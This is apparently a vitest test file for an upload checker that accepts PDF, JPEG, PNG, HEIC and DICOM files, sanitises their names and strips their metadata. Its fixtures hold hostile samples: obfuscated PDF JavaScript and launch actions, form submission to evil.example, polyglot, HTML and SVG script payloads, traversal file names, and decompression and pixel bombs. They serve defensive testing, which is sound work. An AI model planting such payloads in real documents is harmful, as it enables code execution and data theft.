import { deflateSync } from "node:zlib";
import fc from "fast-check";
import sharp from "sharp";
import { describe, expect, test } from "vitest";
import { Refusal } from "../../contract/errors.ts";
import { dicomFile, heicFile } from "../testing/documents.ts";
import { checkDocument } from "./content-checks.ts";

const pdf = (content = "", end = "%%EOF\n") =>
  Buffer.from(`%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n${content}\n${end}`, "latin1");
const packed = (dictionary: string, more = "") => {
  const stream = deflateSync(Buffer.from(dictionary)).toString("latin1");
  return pdf(`9 0 obj << /Type /ObjStm /Filter /FlateDecode ${more} >> stream\n${stream}\nendstream endobj`);
};
const photo = sharp({ create: { width: 40, height: 20, channels: 3, background: "#0b4f6c" } });
const jpeg = await photo.clone().jpeg().toBuffer();
const png = await photo.clone().png().toBuffer();
const heic = heicFile();
const dicom = dicomFile();
const zip = Buffer.concat([Buffer.from("PK\x03\x04"), Buffer.alloc(40), Buffer.from("PK\x05\x06"), Buffer.alloc(18)]);

/** A PNG that says it is huge and holds nothing: its header alone is right. */
function hugePng(width: number, height: number): Buffer {
  const bytes = Buffer.from(png);
  bytes.writeUInt32BE(width, 16);
  bytes.writeUInt32BE(height, 20);
  bytes.writeUInt32BE(crc32(bytes.subarray(12, 29)), 29);
  return bytes;
}
const crc32 = (bytes: Buffer): number => {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
};

const refusalOf = async (name: string, type: string, bytes: Buffer): Promise<Refusal> => {
  const error: unknown = await checkDocument({ name, type, bytes }).catch((thrown: unknown) => thrown);
  if (!(error instanceof Refusal)) throw new Error(`${name} was taken`, { cause: error });
  return error;
};

describe("taken", () => {
  test.each([
    ["a PDF", "report.pdf", "application/pdf", pdf(), "report.pdf", "application/pdf"],
    [
      "a PDF whose objects are packed",
      "a.PDF",
      "application/pdf",
      packed("<< /Title (x) >>"),
      "a.pdf",
      "application/pdf",
    ],
    ["a JPEG", "knee.JPG", "image/jpeg", jpeg, "knee.jpg", "image/jpeg"],
    ["a PNG", "knee.png", "image/png", png, "knee.png", "image/png"],
    ["a HEIC", "IMG_0001.HEIC", "image/heic", heic, "IMG_0001.heic", "image/heic"],
    ["a DICOM file", "CT.0001.dcm", "application/dicom", dicom, "CT.0001.dcm", "application/dicom"],
    ["a DICOM file as scanners name it", "IM000001", "", dicom, "IM000001.dcm", "application/dicom"],
    ["one without a type", "knee.jpeg", "", jpeg, "knee.jpeg", "image/jpeg"],
    ["one without an ending", "knee", "application/octet-stream", png, "knee.png", "image/png"],
    ["one with a path", "..\\..\\etc/../x/knee.png", "image/png", png, "knee.png", "image/png"],
    ["one with control and direction signs", "kn\u0000e\u202Ee\r\n.png", "image/png", png, "knee.png", "image/png"],
    ["one with dots alone", "....png", "image/png", png, "photo.png", "image/png"],
    ["one without a name", "", "application/pdf", pdf(), "document.pdf", "application/pdf"],
    ["one in Arabic", "تقرير الركبة.pdf", "application/pdf", pdf(), "تقرير الركبة.pdf", "application/pdf"],
  ])("%s", async (_, name, type, bytes, expectedName, mime) => {
    const document = await checkDocument({ name, type, bytes });
    expect([document.name, document.mime]).toEqual([expectedName, mime]);
  });

  test("a long name, cut to 120 signs", async () => {
    const { name } = await checkDocument({ name: `${"x".repeat(500)}.pdf`, type: "", bytes: pdf() });
    expect(name.length).toBeLessThanOrEqual(120);
    expect(name.endsWith(".pdf")).toBe(true);
  });
});

describe("a PDF with active content is refused,", () => {
  const stream = (dictionary: string, content: string | Buffer) =>
    pdf(`9 0 obj << ${dictionary} >> stream\n${content.toString("latin1")}\nendstream endobj`);
  const script = "1 0 << /S /JavaScript /JS (app.alert) >>";
  const once = deflateSync(Buffer.from(script));
  const hex = `${once.toString("hex")}>`;
  const usual = "/Type /ObjStm /N 1 /First 4 /Length 99";

  test.each([
    ["packed as producers do", stream(`${usual} /Filter /FlateDecode`, once)],
    ["packed, its name escaped", packed("1 0 << /S /J#61vaScript >>")],
    ["packed twice", stream(`${usual} /Filter [/FlateDecode /FlateDecode]`, deflateSync(once))],
    ["packed and written as hex", stream(`${usual} /Filter [/ASCIIHexDecode /FlateDecode]`, hex)],
    ["packed with a filter of a short name", stream(`${usual} /Filter /Fl`, once)],
    ["written as hex alone", stream(`${usual} /Filter /ASCIIHexDecode`, `${Buffer.from(script).toString("hex")}>`)],
    [
      "packed with a predictor",
      stream(`${usual} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>`, once),
    ],
    ["packed by an escaped filter", stream(`${usual} /F#69lter [/ASCIIHexDecode /FlateDecode]`, hex)],
    [
      "packed behind a harmless stream in a string",
      stream(`${usual} /X (>> stream\n${packed("x")}\nendstream) /Filter [/ASCIIHexDecode /FlateDecode]`, hex),
    ],
    ["packed without saying so", stream("/N 1 /First 4 /Length 99 /Filter [/ASCIIHexDecode /FlateDecode]", hex)],
    ["in a rendition", pdf("<< /S /Rendition /OP 0 /JS (app.alert\\(1\\)) >>")],
    ["in a form of XML", pdf("<< /AcroForm << /XFA [(template) 5 0 R] >> >>")],
    ["that sends a form", pdf("<< /S /SubmitForm /F (https://evil.example/) >>")],
    ["that reads a form in", pdf("<< /S /ImportData /F (C:data.fdf) >>")],
    ["that opens another file", pdf("<< /S /GoToR /F (\\\\evil.example\\share) >>")],
    ["that opens a file in it", pdf("<< /S /GoToE /T << /R /C >> >>")],
    ["that shows a film", packed("1 0 << /Subtype /RichMedia >>")],
    ["that is hung onto a page", pdf("<< /Subtype /File#41ttachment >>")],
  ])("%s", async (_, bytes) => {
    expect((await refusalOf("a.pdf", "application/pdf", bytes)).code).toBe("unsupported-type");
  });

  test.each([
    ["outlines", pdf("<< /Type /Outlines /First 3 0 R /Last 12 0 R /Count 9 >>")],
    ["several object streams", pdf([1, 2, 3].map(() => packed("1 0 << /Title (x) >>").toString("latin1")).join("\n"))],
    ["filters on its pages", stream("/Length 9 /Filter [/ASCIIHexDecode /FlateDecode]", hex)],
    ["names that begin the same", pdf("<< /XFAx 1 /Movies 2 /EFx << >> /EF 1 >>")],
    [
      "an outline",
      pdf(
        "<< /Type /Outlines /First 3 0 R /Last 4 0 R /Count 2 >> endobj\n5 0 obj << /Title (a >> stream) /First 6 0 R /Last 7 0 R >> endobj",
      ),
    ],
    [
      "an outline in a stream's dictionary's neighbour",
      pdf("<< /First 3 0 R /C << /Z 1 >> >> endobj 9 0 obj << /Length 3 >> stream\nabc\nendstream endobj"),
    ],
    ["a link to a page called First", pdf("<< /S /URI /URI (https://x.example/First%20visit) >> endobj")],
  ])("and one with %s is taken", async (_, bytes) => {
    expect((await checkDocument({ name: "a.pdf", type: "", bytes })).mime).toBe("application/pdf");
  });
});

describe("refused", () => {
  test.each([
    [
      "a page that says it is a PDF",
      "a.pdf",
      "application/pdf",
      Buffer.from("<html><script>alert(1)</script>"),
      "unsupported-type",
    ],
    [
      "a page before a PDF",
      "a.pdf",
      "application/pdf",
      Buffer.concat([Buffer.from("<script>alert(1)</script>"), pdf()]),
      "unsupported-type",
    ],
    [
      "an SVG",
      "a.png",
      "image/png",
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
      "unsupported-type",
    ],
    ["an archive", "a.pdf", "application/pdf", zip, "unsupported-type"],
    ["a program", "a.jpg", "image/jpeg", Buffer.concat([Buffer.from("MZ"), Buffer.alloc(200)]), "unsupported-type"],
    [
      "a film",
      "a.heic",
      "image/heic",
      Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypisom"), Buffer.alloc(64)]),
      "unsupported-type",
    ],
    ["a GIF", "a.gif", "image/gif", Buffer.from("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), "unsupported-type"],
    ["a JPEG called .pdf", "a.pdf", "image/jpeg", jpeg, "unsupported-type"],
    ["a JPEG called .html", "a.html", "image/jpeg", jpeg, "unsupported-type"],
    ["a PNG sent as JPEG", "a.png", "image/jpeg", png, "unsupported-type"],
    ["a PDF sent as a page", "a.pdf", "text/html", pdf(), "unsupported-type"],
    ["a PDF and archive in one", "a.pdf", "application/pdf", Buffer.concat([pdf(), zip]), "invalid-input"],
    ["an archive inside a PDF", "a.pdf", "application/pdf", pdf(zip.toString("latin1")), "unsupported-type"],
    ["a PDF without its end", "a.pdf", "application/pdf", pdf("", ""), "invalid-input"],
    [
      "a PDF with a script",
      "a.pdf",
      "application/pdf",
      pdf("<< /S /JavaScript /JS (app.alert) >>"),
      "unsupported-type",
    ],
    [
      "a PDF with a script written otherwise",
      "a.pdf",
      "application/pdf",
      pdf("<< /S /J#61vaScript >>"),
      "unsupported-type",
    ],
    ["a PDF with a script packed away", "a.pdf", "application/pdf", packed("<< /S /JavaScript >>"), "unsupported-type"],
    ["a PDF that hides its packing", "a.pdf", "application/pdf", pdf("<< /Type /Obj#53tm >>"), "unsupported-type"],
    ["a PDF that starts a program", "a.pdf", "application/pdf", pdf("<< /S /Launch /F (cmd) >>"), "unsupported-type"],
    ["a PDF with files in it", "a.pdf", "application/pdf", pdf("<< /Type /EmbeddedFile >>"), "unsupported-type"],
    [
      "a PDF that cannot be looked into",
      "a.pdf",
      "application/pdf",
      pdf("<< /Type /ObjStm >> stream\nqqqq\nendstream"),
      "unsupported-type",
    ],
    ...[
      "/First 7 0 R",
      "/First 7 0 R /X (\\\\) >> stream",
      "/First 7 0 R /X (a ( >> stream \\) b))",
      "/First 7 0 R /X <41>",
      "/First 7 0 R /X\\",
      "/First 7 0 R /X << /Y (>>) >>",
      "/First 7 0 R %>> (\n",
      "/First%\n7 0 R",
      "/First 7%\n 0 R",
      "/First +4",
      "/First 4.0",
      `/First %${"x".repeat(200)}\n4`,
      "/F#69rst 7 0 R",
    ].map(
      (first) =>
        [
          `a PDF with an object stream of no type, and ${JSON.stringify(first.slice(0, 40))}`,
          "a.pdf",
          "application/pdf",
          pdf(`<< /N 1 /Filter [/FlateDecode /FlateDecode] ${first} >> % x\n stream\nqqqq\nendstream`),
          "unsupported-type",
        ] as const,
    ),
    ...[
      "/S /Rendition /JS (x)",
      "/XFA 5 0 R",
      "/S/SubmitForm/F(x)",
      "/S /GoToR",
      "/OnInstantiate 4 0 R",
      "/EF<</F 4 0 R>>",
      "/EF 4 0 R",
    ].map(
      (entry) =>
        [`a PDF with ${entry}`, "a.pdf", "application/pdf", pdf(`<< ${entry} >>`), "unsupported-type"] as const,
    ),
    [
      "a PDF that unpacks to 40 MB",
      "a.pdf",
      "application/pdf",
      packed("x".repeat(40 * 1024 * 1024)),
      "unsupported-type",
    ],
    ["a DICOM file that ends in its header", "a.dcm", "", dicom.subarray(0, 200), "invalid-input"],
    ["a DICOM file with a header alone", "a.dcm", "", dicom.subarray(0, dicom.length - 30), "invalid-input"],
    [
      "a DICOM file whose header says nothing",
      "a.dcm",
      "",
      Buffer.concat([dicom.subarray(0, 132), Buffer.alloc(200)]),
      "invalid-input",
    ],
    ["a DICOM file and archive in one", "a.dcm", "", Buffer.concat([dicom, zip]), "unsupported-type"],
    ["a DICOM file called .jpg", "a.jpg", "", dicom, "unsupported-type"],
    [
      "a HEIC without anything in it",
      "a.heic",
      "image/heic",
      Buffer.concat([heic.subarray(0, 24), Buffer.alloc(64)]),
      "invalid-input",
    ],
    ["a HEIC and archive in one", "a.heic", "image/heic", Buffer.concat([heic, zip]), "unsupported-type"],
    ["a PNG of 51 million pixels", "a.png", "image/png", hugePng(10_200, 5000), "too-large"],
    ["half a HEIC", "a.heic", "image/heic", heic.subarray(0, heic.length - 40), "invalid-input"],
    [
      "a HEIC of 50 000 × 50 000 pixels",
      "a.heic",
      "image/heic",
      heicFile({ width: 50_000, height: 50_000 }),
      "too-large",
    ],
    ["half a JPEG", "a.jpg", "image/jpeg", jpeg.subarray(0, jpeg.length / 2), "invalid-input"],
    ["half a PNG", "a.png", "image/png", png.subarray(0, png.length - 30), "invalid-input"],
    ["a PNG of 50 000 × 50 000 pixels", "a.png", "image/png", hugePng(50_000, 50_000), "too-large"],
    ["a PNG of 2 billion pixels in one row", "a.png", "image/png", hugePng(2_000_000_000, 1), "invalid-input"],
  ] as const)("%s", async (_, name, type, bytes, code) => {
    const { code: given, message } = await refusalOf(name, type, bytes);
    expect(given).toBe(code);
    expect(message).toMatch(/^[A-Z].*[Pp]lease.*\.$/);
  });
});

test("photos lose what cameras write into them, and what was hung onto them", async () => {
  const withPlace = await photo
    .clone()
    .jpeg()
    .withExif({ IFD0: { Copyright: "planted" }, IFD3: { GPSLatitude: "25/1 14/1 14/1" } })
    .toBuffer();
  expect((await sharp(withPlace).metadata()).exif).toBeDefined();
  const tail = Buffer.from("<script>alert('tail')</script>PK\x05\x06");
  const { bytes } = await checkDocument({ name: "a.jpg", type: "image/jpeg", bytes: Buffer.concat([withPlace, tail]) });
  const { exif, xmp, iptc, width, height } = await sharp(bytes).metadata();
  expect([exif, xmp, iptc, width, height]).toEqual([undefined, undefined, undefined, 40, 20]);
  expect(bytes.includes("planted")).toBe(false);
  expect(bytes.includes("alert")).toBe(false);
});

test("a HEIC keeps its picture and loses the place it was taken at", async () => {
  const { bytes } = await checkDocument({ name: "a.heic", type: "image/heic", bytes: heic });
  expect(heic.includes("GPS 25.2048 N")).toBe(true);
  expect(bytes.includes("GPS")).toBe(false);
  expect(bytes).toHaveLength(heic.length);
  expect(bytes.includes(Buffer.alloc(64, 0xab))).toBe(true);
});

test("a DICOM file is nothing else any more: what stood before its header is gone", async () => {
  const program = Buffer.concat([Buffer.from("MZ"), Buffer.alloc(126, 0x90)]);
  const { bytes } = await checkDocument({ name: "a.dcm", type: "", bytes: dicomFile({ preamble: program }) });
  expect(bytes.subarray(0, 128).equals(Buffer.alloc(128))).toBe(true);
  expect(bytes.subarray(128).equals(dicom.subarray(128))).toBe(true);
});

test("whatever is flipped in a HEIC or DICOM, it is taken or refused in words", async () => {
  const kinds = [
    { name: "a.heic", whole: heic },
    { name: "a.dcm", whole: dicom },
  ];
  await fc.assert(
    fc.asyncProperty(fc.constantFrom(...kinds), fc.nat(), fc.nat(255), async ({ name, whole }, at, value) => {
      const bytes = Buffer.from(whole);
      bytes.writeUInt8(value, at % bytes.length);
      const outcome = await checkDocument({ name, type: "", bytes }).catch((error: unknown) => error);
      if (outcome instanceof Error) expect(outcome.name).toBe("Refusal");
    }),
  );
});

test("a photo taken with a turned camera stands upright without its metadata", async () => {
  const turned = await photo.clone().withMetadata({ orientation: 6 }).jpeg().toBuffer();
  const { bytes } = await checkDocument({ name: "a.jpg", type: "image/jpeg", bytes: turned });
  const { width, height } = await sharp(bytes).metadata();
  expect([width, height]).toEqual([20, 40]);
});
